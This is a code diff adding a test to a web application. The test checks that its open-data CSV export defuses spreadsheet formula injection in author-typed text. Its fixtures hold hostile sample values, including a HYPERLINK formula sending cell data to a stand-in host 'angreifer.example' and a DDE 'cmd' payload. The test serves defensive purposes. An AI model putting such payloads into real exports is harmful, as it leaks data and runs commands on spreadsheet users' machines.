@@ -131,3 +131,37 @@ def test_api_resonance_public_summary_and_staff_details(client, user, staff, pop
     public = client.get(url).json()
     assert public["totals"] == full["totals"]
     assert "thresholds" not in public and "grid" not in public
+
+
+def test_open_data_csv_defuses_formulas_that_authors_typed(client, call):
+    """Formula injection: text an author typed must reach a spreadsheet as text."""
+    from praxisdialog.contributions.models import Answer, Attribution
+    from tests.accounts.factories import VerifiedUserFactory
+    from tests.contributions.factories import ContributionFactory
+
+    ResonanceSettingsFactory(call=call, public_open_data=True)
+    author = VerifiedUserFactory(display_name="@SUM(1+1)")
+    contribution = ContributionFactory(
+        call=call,
+        author=author,
+        attribution=Attribution.PSEUDONYM,
+        title='=HYPERLINK("http://angreifer.example/?"&A1;"Klick")',
+    )
+    answers = list(Answer.objects.filter(contribution=contribution).order_by("question__position"))
+    answers[0].text = "+1+cmd|' /C calc'!A0"
+    answers[0].save()
+    answers[1].text = "\t=1+1"
+    answers[1].save()
+    answers[2].text = "-2+3"
+    answers[2].save()
+
+    response = client.get(reverse("resonance:open-data-csv", args=[call.slug]))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = rows[1]
+    assert cells[1] == "'" + contribution.title
+    assert cells[2] == "'@SUM(1+1)"
+    assert "'+1+cmd|' /C calc'!A0" in cells
+    assert "'\t=1+1" in cells
+    assert "'-2+3" in cells
+    # Not one cell of the file starts with something a spreadsheet would run.
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")]
